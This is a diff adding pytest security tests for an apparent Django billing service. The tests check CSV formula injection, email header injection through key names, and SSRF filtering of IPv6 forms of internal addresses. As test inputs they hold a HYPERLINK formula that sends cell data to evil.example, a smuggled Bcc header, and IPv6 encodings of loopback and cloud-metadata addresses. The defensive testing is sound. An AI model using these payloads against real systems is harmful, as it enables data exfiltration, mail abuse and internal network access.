@@ -1,0 +1,65 @@
+"""Hostile review of billing (review10): what a tenant controls must not reach a spreadsheet as a formula,
+nor stop another tenant's budget notices; a webhook URL must not reach inside through an IPv6 form that
+embeds an internal IPv4 address."""
+
+import datetime
+
+import pytest
+from django.core import mail
+from django.test import override_settings
+from django.utils import timezone
+
+from apps.accounts.models import Organisation
+from apps.billing import selectors, services
+from apps.billing.documents import statement_csv
+from apps.billing.models import BudgetNotice
+from apps.common.fetch import check_address
+from apps.keys.services import key_create
+
+from .conftest import at, member, usage
+
+OCTOBER = datetime.date(2026, 10, 1)
+
+
+@pytest.mark.xfail(strict=True, reason="review10: the organisation's name reaches the statement CSV unescaped")
+@pytest.mark.django_db
+def test_an_organisation_named_like_a_formula_is_not_a_formula_in_the_csv():
+    org = Organisation.objects.create(name='=HYPERLINK("https://evil.example/?"&A1,"click")')
+    usage(org, "1", at(datetime.date(2026, 10, 3)))
+    first_row = statement_csv(selectors.statement(org, OCTOBER)).splitlines()[0]
+    assert ",'=HYPERLINK(" in first_row, first_row
+
+
+@pytest.mark.xfail(strict=True, reason="review10: a key named with a line break stops every later budget notice")
+@pytest.mark.django_db
+def test_a_key_name_with_a_line_break_stops_no_notice(org):
+    other = Organisation.objects.create(name=f"{org.name}-other", monthly_budget=10)
+    owner, other_owner = member(org, "owner"), member(other, "owner")
+    key, _ = key_create(user=owner, name="x\nBcc: victim@example.com", organisation=org)
+    key.monthly_budget = 1
+    key.save(update_fields=["monthly_budget"])
+    usage(org, "2", timezone.now(), key=key)
+    usage(other, "9", timezone.now())
+    services.budget_notices_check()
+    assert BudgetNotice.objects.filter(scope="organisation", scope_id=other.id).exists()
+    sent_to = [address for message in mail.outbox for address in message.to]
+    assert other_owner.email in sent_to and owner.email in sent_to
+    assert all("\n" not in message.subject for message in mail.outbox)
+
+
+@pytest.mark.xfail(strict=True, reason="review10: IPv6 forms embedding an internal IPv4 address pass as public")
+@pytest.mark.parametrize("address", [
+    "::127.0.0.1", "::a00:1",  # IPv4-compatible (deprecated, ::/96)
+    "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe",  # NAT64's well-known prefix: 127.0.0.1, 169.254.169.254
+    "2002:7f00:1::1", "2002:a00:1::1",  # 6to4 of 127.0.0.1, 10.0.0.1
+    "::ffff:0:7f00:1",  # IPv4-translated (SIIT)
+    "fec0::1",  # site-local (deprecated, still routed inside some networks)
+])
+def test_ipv6_forms_of_internal_addresses_are_not_public(address):
+    with override_settings(XROUTER_FETCH_ALLOW=[]):
+        assert not check_address(address)
+
+
+def test_public_ipv6_and_nat64_of_a_public_address_stay_allowed():
+    with override_settings(XROUTER_FETCH_ALLOW=[]):
+        assert check_address("2a00:1450:4010:c0e::71") and check_address("64:ff9b::808:808")
